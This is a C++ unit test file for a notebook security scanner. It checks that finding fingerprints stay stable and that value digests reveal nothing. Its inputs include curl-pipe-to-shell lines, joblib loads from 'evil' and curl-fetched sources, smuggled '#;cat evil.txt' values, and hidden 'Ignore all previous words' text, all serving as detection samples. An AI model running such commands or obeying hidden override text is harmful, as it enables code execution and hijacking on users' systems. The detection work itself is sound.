// SPDX-License-Identifier: GPL-3.0-or-later
// A fingerprint stays through what people do to notebooks: run, move, insert, reformat; and never tells the value.
#include "analyzers/review/baseline.h"
#include "analyzers/review/compare.h"
#include "analyzers/rules/value_digest.h"
#include "tests/unit/check.h"
#include "tests/unit/rules/made.h"
#include "tests/unit/rules/made_frames.h"

#include <set>

using namespace cupel;
using test::Letters;

namespace {

std::string code(std::string_view source)
{
    return test::notebookOf(test::jsonString(source));
}

std::string fingerprintOf(const std::string& file)
{
    const auto analysis = test::analyzed(file);
    return analysis.findings.size() == 1 ? analysis.findings.front().fingerprint : std::string("not one finding");
}

} // namespace

CUPEL_TEST(aFingerprintSurvivesMovesAndReformatting)
{
    Letters letters;
    const auto token = test::githubToken(letters);
    const auto plain = fingerprintOf(code("client = Client(token='" + token + "')\n"));
    CHECK_EQ(plain.size(), 32U);
    CHECK_EQ(fingerprintOf(code("# new first line\nimport os\nclient = Client(token='" + token + "')\n")), plain);
    CHECK_EQ(fingerprintOf(code("client = Client(\n    token = \"" + token + "\",\n    retries=3,\n)\n")), plain);
    CHECK_EQ(fingerprintOf(code("client = Client(token='" + token + "', debug=True)  # later\n")), plain);
}

CUPEL_TEST(anotherNameOrAnotherBeginningIsAnotherFinding)
{
    Letters letters;
    const auto token = test::githubToken(letters);
    const auto first = fingerprintOf(code("github_token = '" + token + "'\n"));
    CHECK(fingerprintOf(code("other_token = '" + token + "'\n")) != first);
}

CUPEL_TEST(equalFindingsAreToldApart)
{
    Letters letters;
    const auto token = test::githubToken(letters);
    const auto analysis = test::analyzed(code("t = '" + token + "'\nt = '" + token + "'\n"));
    std::set<std::string> seen;
    for (const auto& finding : analysis.findings) {
        seen.insert(finding.fingerprint);
    }
    CHECK_EQ(seen.size(), 2U);
}

CUPEL_TEST(theContextIsTheLine)
{
    Letters letters;
    const auto token = test::githubToken(letters);
    const auto context = [](const std::string& file) { return test::analyzed(file).findings.at(0).context; };
    const auto plain = context(code("f(token='" + token + "')\n"));
    CHECK_EQ(plain.size(), 16U);
    CHECK_EQ(context(code("import os\nf( token = '" + token + "' )\n")), plain);
    CHECK(context(code("f(token='" + token + "', verify=False)\n")) != plain);
}

CUPEL_TEST(whatIsAboutTheNotebookSurvivesItsCells)
{
    const auto markdown = [](const std::string& text) {
        return R"({"cell_type": "markdown", "metadata": {}, "source": )" + test::jsonString(text) + "}";
    };
    const auto run = [](const std::string& key, const std::string& time) {
        return R"({"cell_type": "code", "execution_count": 1, "outputs": [], "source": "x = 1", "metadata": {")" + key
            + R"(": {"iopub.status.busy": ")" + time + R"("}}})";
    };
    const auto book = [](const std::string& cells, const std::string& metadata) {
        return R"({"cells": [)" + cells + R"(], "metadata": {)" + metadata
            + R"(}, "nbformat": 4, "nbformat_minor": 4})";
    };
    const auto of = [](const std::string& file, std::string_view rule) {
        for (const auto& finding : test::analyzed(file).findings) {
            if (finding.rule == rule) {
                return finding.fingerprint + finding.context;
            }
        }
        return std::string("none");
    };
    const auto one = markdown("![a](https://pictures.example.org/1.png)");
    const auto two = markdown("![b](https://images.example.net/2.png)");
    const std::string toc = R"("toc_position": {"height": "100px"})";
    const std::string other = R"("varInspector": {"window_display": false})";
    const auto before = book(one + ", " + two + ", " + run("execution", "2026-01-02T10:00:00Z"), toc + ", " + other);
    const auto after = book(run("execution", "2026-03-04T22:15:00Z") + ", " + two + ", " + one, other + ", " + toc);
    for (const std::string_view rule : {"CUP-OUT-REMOTE-IMAGE", "CUP-OUT-META-HOURS", "CUP-OUT-META-TOOLS"}) {
        CHECK(of(before, rule) != "none");
        CHECK_EQ(of(after, rule), of(before, rule));
    }
    // What it tells is another thing: a host more, a tool less.
    const auto third = markdown("![c](https://elsewhere.example.com/3.png)");
    CHECK(of(book(one + ", " + two + ", " + third, toc), "CUP-OUT-REMOTE-IMAGE") != of(before, "CUP-OUT-REMOTE-IMAGE"));
    CHECK(of(book(one, toc), "CUP-OUT-META-TOOLS") != of(before, "CUP-OUT-META-TOOLS"));
}

// Who decided about one value has said nothing about another that is masked alike.
CUPEL_TEST(valuesTellThatOthersStandThere)
{
    Letters letters;
    const auto token = test::githubToken(letters);
    const auto other = test::githubToken(letters);
    const auto first = test::analyzed(code("client = Client(token='" + token + "')\n")).findings.at(0);
    const auto moved = test::analyzed(code("import os\nclient = Client( token = \"" + token + "\" )\n")).findings.at(0);
    const auto changed = test::analyzed(code("client = Client(token='" + other + "')\n")).findings.at(0);
    CHECK_EQ(first.values.size(), 3U); // too little to try values with
    CHECK_EQ(moved.values, first.values);
    CHECK_EQ(changed.fingerprint, first.fingerprint);
    CHECK(changed.values != first.values);

    const auto table = [](const std::vector<std::string>& names) {
        std::string html = "<table><thead><tr><th></th><th>Name</th></tr></thead><tbody>";
        for (const auto& name : names) {
            html += "<tr><th>0</th><td>" + name + "</td></tr>";
        }
        const auto file = test::outputOf("\"text/html\": " + test::jsonString(html + "</tbody></table>"));
        return *test::of(test::analyzed(file), "CUP-PII-PERSON-NAME");
    };
    const auto some = table({"Maria Huber", "Jan Kowalski", "Anna Lindqvist", "Tom Baker"});
    const auto turned = table({"Tom Baker", "Anna Lindqvist", "Maria Huber", "Jan Kowalski"});
    const auto others = table({"Julia Fischer", "Mark Smith", "Ines Moreau", "Paul Weber"});
    CHECK_EQ(some.values.size(), 3U);
    CHECK_EQ(turned.values, some.values);
    CHECK_EQ(others.fingerprint, some.fingerprint);
    CHECK(others.values != some.values);

    // What is known is these people, where it was written who they are.
    const auto covers = [&some](const std::string& more, const Finding& finding) {
        const auto baseline = review::Baseline::read(
            R"({"schema": "cupel.scan/1", "findings": [{"fingerprint": ")" + some.fingerprint + '"' + more + "}]}");
        return baseline.ok() && baseline.value().covers({}, finding);
    };
    const auto told = ", \"values\": \"" + some.values + '"';
    CHECK(covers(told, some) && !covers(told, others));
    CHECK(covers({}, some) && covers({}, others));
}

namespace {

Finding loaded(std::string_view source, std::string_view rule = "CUP-CODE-JOBLIB-LOAD")
{
    const auto analysis = test::analyzed(code(source));
    const auto found = std::find_if(analysis.findings.begin(), analysis.findings.end(),
        [rule](const Finding& finding) { return finding.rule == rule; });
    return found == analysis.findings.end() ? Finding() : *found;
}

const std::string head = "import joblib, os\n";
const std::string tail = "path = os.path.join(folder, name)\nmodel = joblib.load(path)\n";

// Two programs that differ in what a call hangs on, through names of names, loops, branches, functions, objects.
using Pairs = std::vector<std::pair<std::string, std::string>>;
const Pairs changes{{"folder = 'models'\nname = 'ours.pkl'\n" + tail, "folder = 'models'\nname = 'evil.pkl'\n" + tail},
    {"folder = 'models'\nname = 'ours.pkl'\n" + tail, "folder = '/tmp'\nname = 'ours.pkl'\n" + tail},
    {"for name in ['a.pkl']:\n    joblib.load(name)\n", "for name in ['b.pkl']:\n    joblib.load(name)\n"},
    {"with open('a.pkl', 'rb') as f:\n    joblib.load(f)\n", "with open('b.pkl', 'rb') as f:\n    joblib.load(f)\n"},
    {"if x:\n    f = 'a'\nelse:\n    f = 'b'\njoblib.load(f)\n",
        "if x:\n    f = 'c'\nelse:\n    f = 'b'\njoblib.load(f)\n"},
    {"def where():\n    return 'a'\njoblib.load(where())\n", "def where():\n    return 'b'\njoblib.load(where())\n"},
    {"cfg.path = 'a'\njoblib.load(cfg.path)\n", "cfg.path = 'b'\njoblib.load(cfg.path)\n"},
    {"if (f := 'a'):\n    joblib.load(f)\n", "if (f := 'b'):\n    joblib.load(f)\n"},
    {"joblib.load('m',\n    mmap_mode=None)\n", "joblib.load('m',\n    mmap_mode='r')\n"},
    {"f = 'evil'\nf = 'ours'\njoblib.load(f)\n", "f = 'ours'\nf = 'evil'\njoblib.load(f)\n"},
    {"from ours import f\njoblib.load(f)\n", "from evil import f\njoblib.load(f)\n"},
    {"import ours as f\njoblib.load(f.x)\n", "import evil as f\njoblib.load(f.x)\n"},
    {"def go(f):\n    joblib.load(f)\ngo('ours')\n", "def go(f):\n    joblib.load(f)\ngo('evil')\n"},
    {"def go():\n    joblib.load(f)\nf = 'ours'\ngo()\n", "def go():\n    joblib.load(f)\nf = 'evil'\ngo()\n"},
    {"def f():\n    return u\nu = 'a'\njoblib.load(f())\n", "def f():\n    return u\nu = 'b'\njoblib.load(f())\n"},
    {"d = []\nd.append('ours')\njoblib.load(d[0])\n", "d = []\nd.append('evil')\njoblib.load(d[0])\n"},
    {"model = 'a'\nf = open('model')\njoblib.load(f)\n", "model = 'a'\nf = open(model)\njoblib.load(f)\n"},
    {"f = 'sftp:bob@ours.org'\njoblib.load(f)\n", "f = 'sftp:eve@evil.com'\njoblib.load(f)\n"},
    {"if ours:\n    joblib.load(f)\n", "if True:\n    joblib.load(f)\n"},
    {"if a:\n    pass\nelif ours:\n    joblib.load(f)\n", "if a:\n    pass\nelif b:\n    joblib.load(f)\n"},
    {"while ours:\n    joblib.load(f)\n", "while True:\n    joblib.load(f)\n"},
    {"class A(Ours):\n    def go(self):\n        joblib.load(self.f)\n",
        "class A(Evil):\n    def go(self):\n        joblib.load(self.f)\n"},
    {"class A(Ours):\n    pass\njoblib.load(A().f)\n", "class A(Evil):\n    pass\njoblib.load(A().f)\n"},
    {"def go(f='ours'):\n    joblib.load(f)\n", "def go(f='evil'):\n    joblib.load(f)\n"},
    {"match ours:\n    case [f]:\n        joblib.load(f)\n", "match evil:\n    case [f]:\n        joblib.load(f)\n"},
    {"match x:\n    case [f, 'a']:\n        pass\njoblib.load(f)\n",
        "match x:\n    case ['a', f]:\n        pass\njoblib.load(f)\n"},
    {"f = !cat ours.txt\njoblib.load(f[0])\n", "f = !cat evil.txt\njoblib.load(f[0])\n"},
    {"u = 'a'\nf = !cat {u}\njoblib.load(f[0])\n", "u = 'b'\nf = !cat {u}\njoblib.load(f[0])\n"},
    {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n", "%env F=evil.pkl\njoblib.load(os.environ['F'])\n"},
    {"f = 'ours'\n%time m = joblib.load(f)\n", "f = 'evil'\n%time m = joblib.load(f)\n"},
    {"from ours import *\njoblib.load(f)\n", "from evil import *\njoblib.load(f)\n"},
    {"def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('ours')\n",
        "def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('evil')\n"},
    {"class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
     "joblib.load(self.f)\nA('ours').go()\n",
        "class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
        "joblib.load(self.f)\nA('evil').go()\n"},
    {"class A:\n    f = 'ours'\njoblib.load(A.f)\n", "class A:\n    f = 'evil'\njoblib.load(A.f)\n"},
    {"def set():\n    global f\n    f = 'ours'\nset()\njoblib.load(f)\n",
        "def set():\n    global f\n    f = 'evil'\nset()\njoblib.load(f)\n"},
    {"d = {}\ndef fill():\n    d['f'] = 'ours'\nfill()\njoblib.load(d['f'])\n",
        "d = {}\ndef fill():\n    d['f'] = 'evil'\nfill()\njoblib.load(d['f'])\n"},
    {"def fill():\n    d.f.append('ours')\nfill()\njoblib.load(d.f[0])\n",
        "def fill():\n    d.f.append('evil')\nfill()\njoblib.load(d.f[0])\n"},
    {"def outer():\n    f = 'ours'\n    def inner():\n        joblib.load(f)\n    inner()\n",
        "def outer():\n    f = 'evil'\n    def inner():\n        joblib.load(f)\n    inner()\n"},
    {"for f in (x + '.pkl' for x in ['ours']):\n    joblib.load(f)\n",
        "for f in (x + '.pkl' for x in ['evil']):\n    joblib.load(f)\n"},
    {"f = 'ours'\ndef go(f=f):\n    joblib.load(f)\ngo()\n", "f = 'evil'\ndef go(f=f):\n    joblib.load(f)\ngo()\n"},
    {"f = ['ours']\n[joblib.load(f) for f in f]\n", "f = ['evil']\n[joblib.load(f) for f in f]\n"},
    {"[(f := x + 'ours') for x in y]\njoblib.load(f)\n", "[(f := x + 'evil') for x in y]\njoblib.load(f)\n"},
    {"class A:\n    @staticmethod\n    def go(f):\n        joblib.load(f)\nA.go('ours')\n",
        "class A:\n    @staticmethod\n    def go(f):\n        joblib.load(f)\nA.go('evil')\n"},
    {"class A:\n    def __init__(self, f):\n        joblib.load(f)\nclass B(A):\n    pass\nB('ours')\n",
        "class A:\n    def __init__(self, f):\n        joblib.load(f)\nclass B(A):\n    pass\nB('evil')\n"},
    {"@dataclass\nclass A:\n    f: str = ''\n    def go(self):\n        joblib.load(self.f)\nA('ours').go()\n",
        "@dataclass\nclass A:\n    f: str = ''\n    def go(self):\n        "
        "joblib.load(self.f)\nA('evil').go()\n"},
    {"os.environ['F'] = 'ours'\njoblib.load(os.getenv('F'))\n",
        "os.environ['F'] = 'evil'\njoblib.load(os.getenv('F'))\n"},
    {"df.loc[0, 'f'] = 'ours'\njoblib.load(df['f'][0])\n", "df.loc[0, 'f'] = 'evil'\njoblib.load(df['f'][0])\n"},
    {"def out():\n    f = 1\n    def inner():\n        global f\n        joblib.load(f)\n    inner()\nf = "
     "'ours'\nout()\n",
        "def out():\n    f = 1\n    def inner():\n        global f\n        joblib.load(f)\n    inner()\nf = "
        "'evil'\nout()\n"},
    {"def go(u):\n    m = !curl {u}\n    joblib.load(m)\ngo('ours')\n",
        "def go(u):\n    m = !curl {u}\n    joblib.load(m)\ngo('evil')\n"},
    {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n", "%env F=ours.pkl#/evil\njoblib.load(os.environ['F'])\n"},
    {"f = !cat ours.txt\njoblib.load(f)\n", "f = !cat ours.txt#;cat evil.txt\njoblib.load(f)\n"},
    {"if ours:\n    joblib.load(f)\nelse:\n    pass\n", "if ours:\n    pass\nelse:\n    joblib.load(f)\n"},
    {"def p():\n    p = 'a'\n    if x:\n        p = 'b'\n    return p\njoblib.load(p())\n",
        "def p():\n    p = 'a'\n    if x:\n        pass\n    p = 'b'\n    return p\njoblib.load(p())\n"},
    {"if ours:\n    f = 'a'\njoblib.load(f)\n", "if evil:\n    f = 'a'\njoblib.load(f)\n"},
    {"@click.option('--f', default='ours')\ndef go(f):\n    joblib.load(f)\n",
        "@click.option('--f', default='evil')\ndef go(f):\n    joblib.load(f)\n"},
    {"def go(f):\n    joblib.load(f)\nlist(map(go, ['ours']))\n",
        "def go(f):\n    joblib.load(f)\nlist(map(go, ['evil']))\n"},
    {"def go(f):\n    joblib.load(f)\npartial(go, 'ours')()\n",
        "def go(f):\n    joblib.load(f)\npartial(go, 'evil')()\n"},
    {"o.path = 'ours'\njoblib.load(o)\n", "o.path = 'evil'\njoblib.load(o)\n"},
    {"p.add_argument(default='ours')\nf = p.parse_args()\njoblib.load(f)\n",
        "p.add_argument(default='evil')\nf = p.parse_args()\njoblib.load(f)\n"},
    {"def fill(d, f):\n    d.append(f)\nd = []\nfill(d, 'ours')\njoblib.load(d[0])\n",
        "def fill(d, f):\n    d.append(f)\nd = []\nfill(d, 'evil')\njoblib.load(d[0])\n"},
    {"setattr(c, 'f', 'ours')\njoblib.load(c.f)\n", "setattr(c, 'f', 'evil')\njoblib.load(c.f)\n"},
    {"d = []\nx = 1\nd.append('ours')\nd = d + [2]\njoblib.load(d[0])\n",
        "d = []\nx = 1\nd.append('evil')\nd = d + [2]\njoblib.load(d[0])\n"}};

} // namespace

// A call stands on what it is given: whoever decided about it decided about that, too.
CUPEL_TEST(valuesTellWhatACallIsGiven)
{
    for (const auto& [source, changed] : changes) {
        const auto before = loaded(head + source);
        const auto after = loaded(head + changed);
        CHECK_EQ(before.values.size(), 16U);
        CHECK_EQ(after.fingerprint, before.fingerprint);
        if (after.values == before.values) {
            test::report(false, __FILE__, __LINE__, "nothing is told of\n" + changed);
        }
    }
}

CUPEL_TEST(valuesStayWhereNothingOfACallChanged)
{
    const auto own = loaded(head + "folder = 'models'\nname = 'ours.pkl'\n" + tail);
    CHECK_EQ(own.values.size(), 16U);
    // Nothing of it: another name, what comes later, how it is written.
    for (const auto& same : {head + "folder = 'models'\nseed = 7\nname = 'ours.pkl'\n" + tail,
             head + "folder = 'models'\nname = 'ours.pkl'\n" + tail + "name = 'other'\nprint(model)\n",
             head + "folder='models'\n\nname  =  \"ours.pkl\" # ours\n" + tail}) {
        CHECK_EQ(loaded(same).values, own.values);
    }
    // Nor what happens to have the same name somewhere else.
    for (const std::string other : {"def log(path):\n    folder = '/tmp'\n    print(folder, path)\nlog('x')\n",
             "print([name for name in range(3)])\n", "key = lambda path: path\n",
             "class Other:\n    folder = '/tmp'\n    def name(self):\n        path = 'x'\n        return path\n",
             "cfg.names = '/tmp'\n", "cfg.path = '/tmp'\n", "df.head()\nplt.title('x')\n",
             "def other():\n    for folder in []:\n        name = folder\n"}) {
        CHECK_EQ(loaded(head + "folder = 'models'\nname = 'ours.pkl'\n" + other + tail).values, own.values);
        CHECK_EQ(loaded(head + other + "folder = 'models'\nname = 'ours.pkl'\n" + tail + other).values, own.values);
    }
}

// What else stands in the function of a call is not what the call is given.
CUPEL_TEST(valuesStayWhereAnotherLineOfTheFunctionChanged)
{
    const auto of = [](const std::string& other) {
        return loaded(head + "def go(f):\n    joblib.load(f)\n    t.extractall(" + other + ")\ngo('a')\n").values;
    };
    CHECK_EQ(of("path='x', filter='data'"), of("path='x'"));
}

CUPEL_TEST(valuesTellWhatAShellLineIsGiven)
{
    const auto shell = [](const std::string& line) { return loaded(line, "CUP-CODE-CURL-PIPE-SHELL").values; };
    CHECK(shell("!curl https://a.org/x#v1 | sh\n") != shell("!curl https://a.org/x#v1 | sudo sh -s evil\n"));
    CHECK(shell("%%bash\nU=https://a.org/i.sh\ncurl $U | sh\n")
        != shell("%%bash\nU=https://a.org/i.sh#;U=https://b.org/x\ncurl $U | sh\n"));
    const auto piped = [](const std::string& url) {
        return loaded("url = '" + url + "'\n!curl {url} | sh\n", "CUP-CODE-CURL-PIPE-SHELL").values;
    };
    CHECK_EQ(piped("https://a.example.org").size(), 16U);
    CHECK(piped("https://a.example.org") != piped("https://b.example.org"));
}

CUPEL_TEST(valuesOfBrokenAndOfEndlessCode)
{
    // Broken code has functions and calls without a name.
    CHECK_EQ(loaded(head + "def (x):\n    joblib.load(x)\n").values.size(), 16U);
    CHECK_EQ(loaded(head + "joblib.load(f)\ndef").values.size(), 16U);
    // What cannot be followed to its end: all of the file counts.
    std::string many = head + "f = ''\n";
    for (int i = 0; i < 1'200; ++i) {
        many += "f += 'a'\n";
    }
    CHECK(loaded(many + "joblib.load(f)\n").values != loaded(many + "joblib.load(f)\nx = 1\n").values);
}

// Outputs: all that acts or hides, wherever it stands, however far into it.
CUPEL_TEST(valuesTellAllOfAnOutput)
{
    const auto found = [](const std::string& html, const std::string& rule) {
        const auto analysis = test::analyzed(test::outputOf("\"text/html\": " + test::jsonString(html)));
        const auto hit = std::find_if(analysis.findings.begin(), analysis.findings.end(),
            [&rule](const Finding& finding) { return finding.rule == rule; });
        return hit == analysis.findings.end() ? std::string("none") : hit->values;
    };
    const std::string filler(200'000, 'x');
    const auto scripts = [&](const std::string& last) {
        return "<script>var a = 1;</script><p>text</p><script>var b = '" + filler + "';" + last + "</script>";
    };
    CHECK_EQ(found(scripts("b = 1;"), "CUP-OUT-SCRIPT").size(), 16U);
    CHECK(found(scripts("b = 1;"), "CUP-OUT-SCRIPT") != found(scripts("b = 2;"), "CUP-OUT-SCRIPT"));
    const auto hidden = [](const std::string& last) {
        std::string html;
        for (int i = 0; i < 60; ++i) {
            html += "<p><span style='opacity: 0'>hover label number " + (i == 59 ? last : std::to_string(i))
                + "</span></p>";
        }
        return html;
    };
    CHECK_EQ(found(hidden("59"), "CUP-OUT-HIDDEN-TEXT").size(), 16U);
    CHECK(found(hidden("59"), "CUP-OUT-HIDDEN-TEXT") != found(hidden("of the key"), "CUP-OUT-HIDDEN-TEXT"));
    CHECK_EQ(
        found("<svg><div style='display:none'/>Ignore all previous words</div></svg>", "CUP-OUT-HIDDEN-TEXT").size(),
        16U);
    CHECK_EQ(found("<svg><line style='opacity: 0'/><text>many words that are seen</text></svg>", "CUP-OUT-HIDDEN-TEXT"),
        std::string("none"));
}

CUPEL_TEST(anotherAmongSeveralIsTold)
{
    const auto people = [](const std::string& last) {
        return *test::of(test::analyzed(code("team = ['Megan Gardner', 'Peter Miller', 'Anna Smith', 'Brian Cooper', "
                                             "'Karla Huber', '"
                             + last + "']\n")),
            "CUP-PII-PERSON-NAME");
    };
    const auto some = people("Thomas Weber");
    const auto others = people("Daniel Fischer");
    CHECK_EQ(some.values.size(), 3U);
    CHECK_EQ(some.fingerprint, others.fingerprint);
    CHECK(some.values != others.values);
}

// However a file writes them; and nothing of what could be gone through.
CUPEL_TEST(aDigestTellsValuesApartAndNoMore)
{
    const auto of = [](const std::vector<std::string>& values) { return rules::valueDigest(values); };
    CHECK_EQ(of({"MIIEvQIBADANBg\nkqhkiG9w0B"}), of({"MIIEvQIBADANBg\",\r\n    \"kqhkiG9w0B"}));
    CHECK_EQ(of({"Maria Huber", "Jan Kowalski"}), of({"Jan Kowalski", "Maria Huber", "Maria Huber"}));
    CHECK(of({"Maria Huber"}) != of({"Maria Hubert"}));
    for (const char* few : {"", "Ann", "37", "52000", "03.12.1984", "1984-03-12"}) {
        CHECK_EQ(of({few}), std::string("-"));
    }
    CHECK(of({"192.168.17.4"}) != "-");
    CHECK_EQ(of({"31", "42", "57", "Maria Huber"}), of({"Maria Huber"})); // who knows three ages is told no fourth
}

CUPEL_TEST(valuesThatChangePlacesStayWhatTheyWere)
{
    Letters letters;
    const auto one = test::githubToken(letters);
    const auto two = test::githubToken(letters);
    const auto file = [](const std::string& first, const std::string& second) {
        return code("token = '" + first + "'\ntoken = '" + second + "'\n");
    };
    review::FileChange change;
    change.before = std::make_shared<const Analysis>(test::analyzed(file(one, two)));
    change.after = std::make_shared<const Analysis>(test::analyzed(file(two, one)));
    review::compareFindings(change);
    REQUIRE(change.findings.size() == 2);
    for (const auto& found : change.findings) {
        CHECK(found.kind == review::FindingChange::Kind::Same);
    }
}
